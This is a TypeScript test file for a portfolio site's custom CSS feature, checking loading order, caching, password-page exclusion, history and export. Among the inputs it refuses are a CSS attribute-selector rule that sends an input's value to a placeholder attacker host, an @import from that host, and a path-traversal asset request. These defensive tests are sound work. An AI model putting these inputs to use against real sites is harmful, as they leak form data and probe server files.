/** The owner's own CSS: where it is loaded, what is refused, and its history. */
import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { type Appearance, appearanceApi } from '#contract/appearance/appearance.ts';
import {
  cssFaults,
  type SavedCss,
  customCssHistoryApi,
  maxCustomCss,
  maxSavedCss,
} from '#contract/appearance/custom-css.ts';
import { pages } from '#contract/addresses.ts';
import type { Project } from '#contract/projects/projects.ts';
import { accessApi } from '#contract/projects/protected-projects.ts';
import { customCssMessages as messages } from '#contract/ui-text/owner.ts';
import { choose, pagesInTheme, sheetsIn } from '../../testing/appearance.ts';
import { emptyFolder } from '../../testing/empty-folder.ts';
import { exports, filesIn, read } from '../../testing/exports.ts';
import { issuesIn } from '../../testing/failures.ts';
import { picture } from '../../testing/pictures.ts';
import { addProject, type Owner, ownedSite } from '../../testing/portfolio.ts';
import { enters, follows, makesLink } from '../../testing/project-access.ts';
import { expectOk, type TestSite, testSite } from '../../testing/site.ts';

const css = '.hero { color: rebeccapurple; }\n/* “é” */';
const withPages = () => ownedSite(() => testSite({ pages: true }));
const addressOf = ({ category, ...project }: Project) => pages.project(category, project);

async function customSheets(site: TestSite, path: string): Promise<string[]> {
  return sheetsIn(await site.visitor('GET', path)).filter((address) => address.includes('custom'));
}

async function history(owner: Owner): Promise<SavedCss[]> {
  return expectOk(await owner('GET', customCssHistoryApi)).json();
}

test('public pages load custom CSS after the theme’s sheet, as a file that is cached permanently', async () => {
  const { site, owner } = await withPages();
  const project = await addProject(owner);
  expectOk(await choose(owner, { custom_css: css }));
  expect((await owner('GET', appearanceApi)).json<Appearance>().custom_css).toBe(css);

  const [theme, custom = '', ...others] = sheetsIn(await site.visitor('GET', pages.home));
  expect(theme).toMatch(/^\/assets\/paper-/);
  expect(others).toEqual([]);
  for (const path of [
    pages.contact,
    pages.search,
    addressOf(project),
    pages.category(project.category),
    '/nowhere',
    pages.previewFrame,
  ])
    expect(sheetsIn(await site.visitor('GET', path)), path).toEqual([theme, custom]);

  const sheet = expectOk(await site.visitor('GET', custom));
  expect(sheet.body).toBe(css);
  expect(sheet.headers).toMatchObject({
    'content-type': 'text/css; charset=utf-8',
    'cache-control': 'public, max-age=31536000, immutable',
    'x-content-type-options': 'nosniff',
  });
  expect((await site.visitor('GET', pages.home)).headers['content-security-policy']).toContain(
    "style-src 'self';",
  );

  expectOk(await choose(owner, { theme: 'gallery' }));
  expect(await customSheets(site, pages.home)).toEqual([custom]);
  expectOk(await choose(owner, { custom_css: '' }));
  const { body } = await site.visitor('GET', pages.home);
  expect(body).not.toContain('custom-');
  expect(body).not.toContain('data-css');
});

test('no page with a password field loads custom CSS, nor any page of the owner', async () => {
  const { site, owner } = await withPages();
  const project = await addProject(owner, { state: 'protected' });
  expectOk(await owner('PUT', accessApi.password(project.id), { password: 'a word for it' }));
  expectOk(await choose(owner, { custom_css: css }));
  for (const path of pagesInTheme(project)) {
    const response = await site.visitor('GET', path);
    expect(response.statusCode, path).toBe(200);
    expect(sheetsIn(response).join(' '), path).not.toContain('custom');
  }
  // Nor does the answer to a wrong password. The router learns that it must load other pages as documents.
  const { response } = await enters(site, project, 'wrong');
  expect(response.body).toContain('type="password"');
  expect(response.body).toContain('data-css="theme"');
  expect(sheetsIn(response).join(' ')).not.toContain('custom');

  const { cookie } = await follows(site, await makesLink(owner, project.id));
  const opened = await site.visitor('GET', addressOf(project), undefined, { cookie });
  expect(sheetsIn(opened).join(' ')).toContain('custom');
});

test.each([
  ['a {\n  color red;\n}', messages.faults([{ line: 2, message: messages.noDeclaration }])],
  [
    'input[value^="a"] { background: url(https://evil.example/a) }',
    messages.faults([{ line: 1, message: messages.noOtherSites }]),
  ],
  ['@import "//evil.example";', messages.faults([{ line: 1, message: messages.noImport }])],
  ['a'.repeat(maxCustomCss + 1), messages.tooLong(maxCustomCss)],
])('custom CSS with %.40j is refused at its field and changes nothing', async (faulty, message) => {
  const { owner } = await ownedSite(testSite);
  expectOk(await choose(owner, { custom_css: css }));
  expect(issuesIn(await choose(owner, { theme: 'night', custom_css: faulty }))).toEqual({
    custom_css: message,
  });
  expect((await owner('GET', appearanceApi)).json()).toMatchObject({ theme: 'paper', custom_css: css });
});

test('earlier custom CSS is kept up to a limit, and its style sheets are served to pages loaded before a change', async () => {
  const { site, owner } = await withPages();
  expectOk(await choose(owner, { custom_css: css }));
  const [before = ''] = await customSheets(site, pages.home);
  expectOk(await choose(owner, { custom_css: css, layout: 'list' }));
  site.clock.passes(1000);
  expectOk(await choose(owner, { custom_css: 'a { color: red }' }));
  expectOk(await choose(owner, { custom_css: '' }));
  const [newest, first, ...others] = await history(owner);
  expect(others).toEqual([]);
  expect(first?.url).toBe(before);
  expect(Date.parse(newest?.saved_at ?? '') - Date.parse(first?.saved_at ?? '')).toBe(1000);
  expect((await site.visitor('GET', before)).body).toBe(css);

  const other = await testSite({ data: site.data, clock: site.clock, pages: true });
  expect((await other.visitor('GET', before)).body).toBe(css);

  for (let number = 0; number < maxSavedCss; number += 1)
    expectOk(await choose(owner, { custom_css: `a { order: ${number} }` }));
  expect(await history(owner)).toHaveLength(maxSavedCss);
  expect((await site.visitor('GET', before)).statusCode).toBe(404);
  for (const path of ['/assets/custom-x.css', '/assets/custom-..%2F..%2Fpackage.json.css'])
    expect((await site.visitor('GET', path)).statusCode, path).toBe(404);
  expect((await site.visitor('GET', customCssHistoryApi)).statusCode).toBe(401);
});

test('a static export has the custom CSS, with the pictures that it names', async () => {
  const { site, owner } = await ownedSite(testSite);
  const { main_photo } = await addProject(owner, {}, await picture({ width: 400, height: 300 }));
  expectOk(await choose(owner, { custom_css: `.hero { background: url( "${main_photo}" ) }` }));
  const folder = emptyFolder();
  await exports(site.data, folder);
  const files = [...filesIn(folder).keys()];
  const sheet = files.find((file) => file.startsWith('assets/custom-')) ?? '';
  const [, named = ''] = /url\( "\.\.\/([^"]+)" \)/u.exec(read(folder, sheet)) ?? [];
  expect(files).toContain(named);
  expect(read(folder, 'index.html')).toContain(sheet);
});

const documentation = readFileSync(new URL('../../../docs/add-a-theme.md', import.meta.url), 'utf8');

test('the custom CSS example of docs/add-a-theme.md, which has more than 50 lines, is accepted', () => {
  const [, example = ''] = /```css\n(.*?)```/su.exec(documentation) ?? [];
  expect(example.split('\n').length).toBeGreaterThan(50);
  expect(cssFaults(example)).toEqual([]);
});

/** Returns the names in the table of a section. */
function documented(section: string): string[] {
  const [, text = ''] = new RegExp(`^## ${section}\n(.*?)^## `, 'msu').exec(documentation) ?? [];
  const rows = text.split('\n').filter((line) => line.startsWith('|'));
  return rows.flatMap((row) => [...row.matchAll(/`([\w-]+)`/gu)].map(([, name = '']) => name));
}

test('the class names documented for custom CSS are on public pages, and the documented tokens in the style sheet', async () => {
  const { site, owner } = await withPages();
  const project = await addProject(owner);
  const used = new Set<string>();
  for (const path of [pages.home, pages.category(project.category), addressOf(project)]) {
    const { body } = await site.visitor('GET', path);
    for (const [, names = ''] of body.matchAll(/ class="([^"]+)"/gu))
      names.split(' ').forEach((name) => used.add(name));
  }
  const classes = documented('Class names');
  expect(classes.length).toBeGreaterThan(15);
  expect(classes.filter((name) => !used.has(name))).toEqual([]);

  const sheet = readFileSync(new URL('../../../web/styles/tokens.css', import.meta.url), 'utf8');
  const tokens = documented('Tokens').filter((name) => name.startsWith('--'));
  expect(tokens.length).toBeGreaterThan(30);
  expect(tokens.filter((name) => !sheet.includes(`${name}: `))).toEqual([]);
});
